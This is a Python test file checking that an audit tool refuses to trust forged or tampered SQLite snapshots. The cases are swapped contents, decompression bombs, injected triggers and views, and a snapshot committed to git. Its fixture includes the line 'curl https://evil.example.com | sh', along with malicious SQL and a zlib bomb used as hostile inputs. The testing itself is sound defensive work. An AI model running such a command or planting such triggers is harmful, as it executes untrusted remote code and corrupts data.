"""A pull request can bring a snapshot of an audit: what it says was answered is believed only where the user's own
cache has the digest of exactly that."""

from __future__ import annotations

import json
import shutil
import sqlite3
import subprocess
import zlib
from collections.abc import Iterator, Sequence
from contextlib import closing, contextmanager
from pathlib import Path

import pytest
from support.commands import Ended, command
from support.project import CONTENT, ProjectFolder

from reconciler.audit import answers
from reconciler.audit.snapshot import Origin
from reconciler.audit.store import Store
from reconciler.emulator import Emulator, ManualClock

NAMES = ("a", "b", "c")
EVIL = {**CONTENT, "UserCommand": "curl https://evil.example.com | sh"}


@pytest.fixture
def snapshot(project: ProjectFolder, emulator: Emulator, clock: ManualClock) -> Path:
    """The place of a snapshot that an audit left; the next one would fetch nothing."""
    project.template("elsewhere")
    for name in NAMES:
        emulator.store.create_template(name, json.dumps({**CONTENT, "UserCommand": f"run {name}"}))
    clock.advance(3600)
    assert audit(project, emulator).code == 0
    assert fetched(project, emulator) == 0
    return project.root / ".dlc-reconciler" / "audit.sqlite3"


def audit(project: ProjectFolder, emulator: Emulator, *words: str | Path) -> Ended:
    emulator.clear_log()
    where = ("--project", project.root, "--endpoint", emulator.url)
    return command("audit", "--format", "json", "--fail-on", "never", *where, *words)


def fetched(project: ProjectFolder, emulator: Emulator) -> int:
    assert audit(project, emulator).code == 0
    return emulator.calls().count("GetJobTemplate")


@contextmanager
def opened(file: Path) -> Iterator[sqlite3.Connection]:
    with closing(sqlite3.connect(file)) as db, db:
        yield db


def forge_contents(file: Path) -> None:
    """Other contents in answers that are right in every other way."""
    with opened(file) as db:
        for id, body in db.execute("SELECT id, body FROM answer").fetchall():
            answer = answers.unpacked(body)
            for version in answer["Versions"]:
                version["Content"] = json.dumps(EVIL)
            db.execute("UPDATE answer SET body = ? WHERE id = ?", (answers.packed(answer), id))


def test_a_forged_content_is_not_believed(
    project: ProjectFolder, emulator: Emulator, snapshot: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1790000000")
    expected = audit(project, emulator, "--no-cache", "--snapshot", snapshot.with_name("other.sqlite3")).out
    forge_contents(snapshot)
    assert audit(project, emulator).out == expected
    assert emulator.calls().count("GetJobTemplate") == len(NAMES)
    with Store.open(snapshot) as store:
        assert all(body and b"evil" not in zlib.decompress(body) for body in bodies(store))
    assert fetched(project, emulator) == 0


def bodies(store: Store) -> Sequence[bytes]:
    return [row[0] for row in store._db.execute("SELECT body FROM answer")]


def test_a_snapshot_alone_is_not_believed(
    project: ProjectFolder, emulator: Emulator, snapshot: Path, tmp_path: Path
) -> None:
    """A runner that never saw it fetches everything, also with the cache of another project's runs."""
    assert snapshot.is_file()
    shutil.rmtree(tmp_path / ".cache")
    assert fetched(project, emulator) == len(NAMES)


def test_what_is_not_believed_is_not_even_unpacked(
    project: ProjectFolder, emulator: Emulator, snapshot: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A few bytes can unpack to all of the memory."""
    with opened(snapshot) as db:
        db.execute("UPDATE answer SET body = ?", (zlib.compress(b"0" * 10_000_000),))

    def unpacked(_body: bytes) -> None:
        raise AssertionError("it was unpacked")

    monkeypatch.setattr("reconciler.audit.collect.unpacked", unpacked)
    assert fetched(project, emulator) == len(NAMES)


@pytest.mark.parametrize(
    "statement",
    [
        "CREATE TRIGGER t AFTER INSERT ON version BEGIN UPDATE version SET body = x'00'; END",
        "CREATE TRIGGER t AFTER INSERT ON object BEGIN DELETE FROM object; END",
        "CREATE VIEW other AS SELECT 1",
        "ALTER TABLE answer RENAME TO kept; CREATE VIEW answer AS SELECT * FROM kept",
        "DROP VIEW sound_object; CREATE VIEW sound_object AS SELECT * FROM object WHERE 0",
        "ALTER TABLE version ADD COLUMN more",
    ],
    ids=lambda statement: statement[:26],
)
def test_nothing_is_read_from_tables_that_are_not_exactly_ours(
    project: ProjectFolder, emulator: Emulator, snapshot: Path, statement: str
) -> None:
    """What else stands in the file would run whenever we read or write in it."""
    expected = audit(project, emulator).json["findings"]
    with opened(snapshot) as db:
        db.executescript(statement)
    resumed = audit(project, emulator, "--resume")
    assert (resumed.code, "has a format that this version does not read" in resumed.err) == (1, True), resumed.text
    assert audit(project, emulator).json["findings"] == expected
    assert emulator.calls().count("GetJobTemplate") == len(NAMES)


ENDLESS = """
DROP TABLE answer;
CREATE VIEW answer AS SELECT 'p' AS place, 'k' AS kind, 'i' AS id, '2026-01-01' AS seen, x'00' AS body
    FROM (WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x FROM n) SELECT * FROM n);
"""


def test_a_view_that_never_ends_is_not_looked_into(tmp_path: Path) -> None:
    file, origin = tmp_path / "snapshot", Origin(project="p", sites=("s",))
    Store.create(file, origin).close()
    with opened(file) as db:
        db.executescript(ENDLESS)
    with Store.create(file, origin) as store:
        assert bodies(store) == []


def test_the_database_of_somebody_else_is_never_replaced(
    project: ProjectFolder, emulator: Emulator, tmp_path: Path
) -> None:
    project.template("elsewhere")
    other = tmp_path / "notes.sqlite3"
    with opened(other) as db:
        db.execute("CREATE TABLE meta (key, value)")
    before = other.read_bytes()
    ended = audit(project, emulator, "--snapshot", other)
    assert (ended.code, "is not a snapshot of an audit" in ended.err) == (1, True)
    assert other.read_bytes() == before


def test_a_snapshot_that_came_with_the_checkout_is_not_gone_on_with(
    project: ProjectFolder, emulator: Emulator, snapshot: Path
) -> None:
    git(project.root, "init", "-q")
    git(project.root, "add", "--force", snapshot)
    ended = audit(project, emulator, "--resume")
    assert (ended.code, emulator.calls()) == (1, [])
    assert "audit.sqlite3 came with the checkout: Git tracks it" in ended.err
    git(project.root, "rm", "-q", "--cached", snapshot)
    assert audit(project, emulator, "--resume").code == 0


def git(folder: Path, *words: str | Path) -> None:
    subprocess.run(["git", *words], cwd=folder, check=True, capture_output=True)
